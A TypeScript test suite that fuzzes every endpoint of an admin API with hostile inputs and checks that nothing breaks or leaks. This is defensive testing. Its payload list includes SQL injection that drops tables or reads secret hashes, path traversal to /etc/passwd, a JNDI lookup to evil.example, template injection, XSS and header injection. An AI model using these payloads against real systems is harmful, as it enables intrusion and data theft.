/**
 * What attackers write, through every field of every endpoint: path, query, headers, body. The fields are not listed
 * here; they are found in the OpenAPI document. Nothing breaks, nothing is executed, and what is taken is kept verbatim.
 */
import { beforeAll, expect, test } from 'vitest';
import type { OpenApiDocument, Operation } from '../../../runtime/admin/http/openapi.ts';
import { administered } from '../../support/administered.ts';
import { CELL_WIDE, definition, freshNumber } from '../../support/administration.ts';
import { describeDatabases } from '../../support/databases.ts';

const ATTACKS = [
  "'; drop table tenants cascade; --",
  "' or '1'='1",
  '1); select pg_sleep(30); --',
  '$$; set role postgres; select $$',
  "\\'; delete from api_keys; --",
  "' union select secret_hash::text from api_keys --",
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '%2e%2e%2f%2e%2e%2f',
  '/v1/tenants/../../openers',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202Eevil\u0007',
  '$' + '{jndi:ldap://evil.example/x}',
  '{{constructor.constructor("return process")()}}',
  '<script>alert(1)</script>',
  '\r\nset-cookie: admin=1',
  'x'.repeat(9_000),
  '1e999',
  '-0',
  'null',
  '',
  ' ',
];
/** Instead of a text. */
const SHAPES: unknown[] = [
  null,
  0,
  -1,
  1e308,
  true,
  [],
  {},
  [['a']],
  { $ne: null },
  { toString: 'x' },
  { constructor: { prototype: {} } },
];

type Schema = { readonly type?: string; readonly properties?: Record<string, Schema>; readonly $ref?: string };

/** Paths of the fields of a body, three levels deep. */
function fieldsOf(schema: Schema, document: OpenApiDocument, within: string[] = []): string[][] {
  const { properties = {} } = schema.$ref ? resolve(schema.$ref, document) : schema;
  return Object.entries(properties).flatMap(([name, inner]) => [
    [...within, name],
    ...(within.length < 3 ? fieldsOf(inner, document, [...within, name]) : []),
  ]);
}

function resolve(reference: string, document: OpenApiDocument): Schema {
  const steps = reference.replace('#/', '').split('/');
  return steps.reduce<unknown>((at, step) => (at as Record<string, unknown>)[step], document) as Schema;
}

function withField(body: object, path: readonly string[], value: unknown): object {
  const copy = structuredClone(body) as Record<string, unknown>;
  let at = copy;
  for (const step of path.slice(0, -1)) {
    const inner = { ...(at[step] as Record<string, unknown>) };
    at[step] = inner;
    at = inner;
  }
  at[path.at(-1)!] = value;
  return copy;
}

function fieldOf(body: unknown, path: readonly string[]): unknown {
  return path.reduce<unknown>((at, step) => (at as Record<string, unknown> | undefined)?.[step], body);
}

describeDatabases('what attackers write', (testDatabase) => {
  const its = administered(testDatabase, 'Target');
  let document: OpenApiDocument;
  beforeAll(async () => {
    document = (await its.ask('get', '/v1/openapi.json')).body;
  });

  /** Sound things, of which one field at a time is made unsound. */
  const bodies: Readonly<Record<string, () => object>> = {
    createTenant: () => ({ name: 'Sound', dataResidency: 'EU' }),
    addNumber: () => ({ number: freshNumber(), agentId: its.tenant.agentId }),
    moveNumber: () => ({ agentId: its.tenant.agentId }),
    publishAgent: () => ({ definition: { ...definition, version: Math.random().toString(36) }, live: false }),
    createCellKey: () => ({ role: 'auditor', name: 'sound' }),
    createKey: () => ({ role: 'auditor', name: 'sound' }),
    rotateCellKey: () => ({}),
    rotateKey: () => ({}),
    refuseSubjectRequest: () => ({ because: 'sound' }),
    fileSubjectRequest: () => ({
      kind: 'rectify',
      number: freshNumber(),
      verifiedBy: 'sound',
      correction: { replace: 'Smyth', with: 'Smith' },
    }),
  };
  const known = () => ({ ...its.tenant, name: definition.name, version: definition.version }) as Record<string, string>;
  const urlOf = (path: string, instead: Record<string, string> = {}) =>
    path.replace(/\{(\w+)\}/g, (_, name) => encode(instead[name] ?? known()[name]!));

  function* operations(): Iterable<{ method: string; path: string; operation: Operation }> {
    for (const [path, methods] of Object.entries(document.paths))
      for (const [method, operation] of Object.entries(methods)) yield { method, path, operation };
  }

  const counts = () =>
    its.database.within(CELL_WIDE, async (transaction) => {
      const tables = [
        'tenants',
        'agents',
        'phone_numbers',
        'api_keys',
        'conversations',
        'conversation_events',
        'consents',
      ];
      const counted = tables.map((table) => `(select count(*)::integer from ${table}) as ${table}`);
      return (await transaction.query<Record<string, number>>(`select ${counted.join(', ')}`))[0]!;
    });

  test('in paths, queries and headers is refused or finds nothing, and breaks nothing', async () => {
    const before = await counts();
    const broken: string[] = [];
    let asked = 0;
    for (const { method, path, operation } of operations()) {
      // Only what reads: a write with a sound body would do what it says.
      const isRead = method === 'get';
      for (const { name, in: place } of operation.parameters) {
        if (place !== 'path' && !isRead) continue;
        for (const attack of ATTACKS) {
          const url = place === 'path' ? urlOf(path, { [name]: attack }) : urlOf(path);
          const query = place === 'query' ? `?${name}=${encode(attack)}` : '';
          const headers = place === 'header' && /^[\x20-\x7e]+$/.test(attack) ? { [name]: attack } : undefined;
          const payload = operation.requestBody ? bodies[operation.operationId]!() : undefined;
          const said = await its.ask(method, url + query, payload, headers);
          asked += 1;
          const at = `${method} ${path} ${place} ${name} ${JSON.stringify(attack.slice(0, 40))}: ${said.status}`;
          if (said.status >= 500) broken.push(at);
          if (place === 'path' && said.status < 300) broken.push(`${at}, expected a refusal`);
        }
      }
    }
    expect(asked).toBeGreaterThan(1_000);
    expect(broken).toEqual([]);
    expect(await counts()).toEqual(before);
  });

  test('in bodies is refused, or kept as it was written', async () => {
    const broken: string[] = [];
    let kept = 0;
    for (const { method, path, operation } of operations()) {
      if (!operation.requestBody) continue;
      const schema = operation.requestBody.content['application/json'].schema as Schema;
      for (const field of fieldsOf(schema, document)) {
        for (const attack of [...ATTACKS, ...SHAPES]) {
          const body = withField(bodies[operation.operationId]!(), field, attack);
          const said = await its.ask(method, urlOf(path), body);
          const at = `${operation.operationId} ${field.join('.')} ${JSON.stringify(attack)?.slice(0, 40)}: ${said.status}`;
          if (said.status >= 500) broken.push(at);
          if (said.status >= 300 || typeof attack !== 'string') continue;
          const answered = fieldOf(said.body, field);
          if (answered !== undefined && answered !== attack && answered !== attack.trim())
            broken.push(`${at}, kept otherwise`);
          kept += 1;
          const version = fieldOf(said.body, ['agent', 'version']);
          if (operation.operationId !== 'publishAgent' || typeof version !== 'string') continue;
          const read = await its.ask('get', urlOf(`${path}/{name}/versions/{version}`, { version }));
          // A version that no path can name is still found in the list.
          if (read.status !== 200) continue;
          const stored = fieldOf(read.body, field);
          if (stored !== attack) broken.push(`${at}, stored as ${JSON.stringify(stored)?.slice(0, 60)}`);
        }
      }
    }
    expect(kept).toBeGreaterThan(50);
    expect(broken).toEqual([]);
    expect((await counts()).tenants).toBeGreaterThan(1);
    expect((await its.ask('get', urlOf('/v1/tenants/{tenantId}'))).body.id).toBe(its.tenant.tenantId);
  });

  test('in the place of a key opens nothing', async () => {
    const statuses = new Set<number>();
    for (const attack of ATTACKS.filter((each) => /^[\x20-\x7e]*$/.test(each)))
      for (const authorization of [attack, `Bearer ${attack}`, `Bearer vck_${attack}`, `${its.operator}${attack}`])
        statuses.add((await its.admin.ask('get', '/v1/tenants', { headers: { authorization } })).status);
    expect([...statuses]).toEqual([401]);
  });
});

/** As a client must write it; half a character cannot be written at all. */
function encode(text: string): string {
  return encodeURIComponent(text.replace(/\p{Surrogate}/gu, '%ED%A0%80'));
}
